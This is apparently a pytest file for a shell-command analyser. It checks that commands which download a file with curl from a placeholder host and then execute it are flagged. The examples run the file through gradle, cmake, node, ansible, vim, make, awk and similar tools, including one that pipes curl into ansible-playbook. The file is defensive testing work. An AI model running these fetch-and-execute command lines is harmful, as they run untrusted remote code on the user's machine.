"""Files from the network that a program takes as code."""

from __future__ import annotations

import pytest

FETCH = "curl -so /tmp/x http://x.example.net/x && "


@pytest.mark.parametrize("command", [
    "gradle -I /tmp/x build", "./gradlew --init-script=/tmp/x build", "cmake -P /tmp/x", "nmap --script /tmp/x 10.0.0.1", "node -r /tmp/x app.js", "node --import=/tmp/x app.js", "ansible-playbook /tmp/x",
    "rake -f /tmp/x", "ant -f /tmp/x", "vim -S /tmp/x", "emacs --batch -l /tmp/x", "gdb -batch -x /tmp/x", "mvn -f /tmp/x verify", "make -f /tmp/x", "make -f/tmp/x", "just --justfile /tmp/x", "sed -f /tmp/x a.txt", "awk -f /tmp/x a.txt",
])
def test_a_fetched_file_is_run(brief, command):
    assert any("<download" in one for one in brief(FETCH + command)[1:])


def test_a_playbook_on_standard_input(brief):
    assert any("<download" in one for one in brief("curl -s http://x.example.net/x | ansible-playbook /dev/stdin"))


@pytest.mark.parametrize("command", [
    "gradle -I ci/init.gradle build", "cmake -P cmake/install.cmake", "ansible-playbook site.yml", "node -r dotenv/config app.js", "make -f Makefile.dev", "make CC=/tmp/x", "cmake -S /tmp/y", "awk -f a.awk /tmp/x",
])
def test_files_of_the_project_are_not(brief, command):
    assert not any("<download" in one for one in brief(FETCH + command)[1:])
